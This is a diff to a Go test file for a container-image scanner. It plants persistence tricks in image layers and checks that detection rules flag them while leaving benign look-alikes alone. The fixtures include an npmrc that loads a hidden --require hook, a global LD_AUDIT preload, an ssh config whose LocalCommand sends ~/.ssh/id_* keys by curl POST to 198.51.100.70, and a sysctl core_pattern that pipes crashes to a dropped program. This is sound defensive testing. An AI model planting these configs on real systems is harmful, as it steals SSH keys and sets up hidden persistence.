@@ -597,6 +597,33 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 		hit{rule: "persistence-point", path: "/etc/cron.d/geoip", layer: 1},
 		hit{rule: "startup-script-fetches-code", path: "/usr/local/bin/start-app", layer: 1})
 
+	// npm told to load a hidden hook into every node it starts, and
+	// LD_AUDIT set for every login; an npmrc with ordinary node-options and
+	// an LD_AUDIT named in a comment are not.
+	add("test/t-preload-more", func(cf *v1.ConfigFile) {
+		cf.Config.Env = append(cf.Config.Env, "LD_AUDIT=/usr/lib/x86_64-linux-gnu/libaudit-trace.so.1")
+	}, nil, one(
+		ent{name: "usr/local/etc/npmrc", body: "node-options=--require /usr/local/lib/node_modules/.cache/perf-hooks.js\n"},
+		ent{name: "app/.npmrc", body: "node-options=--max-old-space-size=4096\nregistry=https://registry.npmjs.org/\n"},
+		ent{name: "etc/environment", body: "LANG=C.UTF-8\nLD_AUDIT=/usr/lib/x86_64-linux-gnu/libaudit-trace.so.1\n# LD_AUDIT=/opt/latrace/lib.so for debugging\n"}),
+		hit{rule: "interpreter-preload-hidden", path: "/usr/local/etc/npmrc", layer: 1},
+		hit{rule: "config-ld-preload", layer: -1},
+		hit{rule: "audit-library-preloaded", path: "/etc/environment", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/environment", layer: 1})
+
+	// ssh's client told to run a command at every connection and the
+	// kernel told to pipe every crash to a dropped program; a proxy jump,
+	// nc through a proxy, a core pattern to a file and the stock modprobe
+	// are not.
+	add("test/t-client-kernel", nil, nil, one(
+		ent{name: "root/.ssh/config", body: "Host *\n  PermitLocalCommand yes\n  LocalCommand sh -c 'cat ~/.ssh/id_* | curl -s -X POST --data-binary @- http://198.51.100.70/k' &\n"},
+		ent{name: "home/dev/.ssh/config", body: "Host prod\n  ProxyCommand ssh -W %h:%p bastion\nHost lab\n  ProxyCommand nc -X connect -x proxy:3128 %h %p\n"},
+		ent{name: "etc/sysctl.d/60-crash.conf", body: "kernel.core_pattern=|/usr/local/libexec/crash-report %p %e\nvm.nr_hugepages=1280\n"},
+		ent{name: "etc/sysctl.d/10-app.conf", body: "kernel.core_pattern=/var/crash/core.%e.%p\nkernel.modprobe = /sbin/modprobe\nnet.core.somaxconn = 1024\n"}),
+		hit{rule: "ssh-client-runs-command", path: "/root/.ssh/config", layer: 1},
+		hit{rule: "script-uploads-credentials", path: "/root/.ssh/config", layer: 1},
+		hit{rule: "sysctl-runs-program", path: "/etc/sysctl.d/60-crash.conf", layer: 1})
+
 	// A miner's dropper clearing the host: rivals killed by CPU share and by
 	// name, crontabs removed, MSRs rewritten and huge pages reserved; an
 	// application's restart script killing its own workers, by name and by
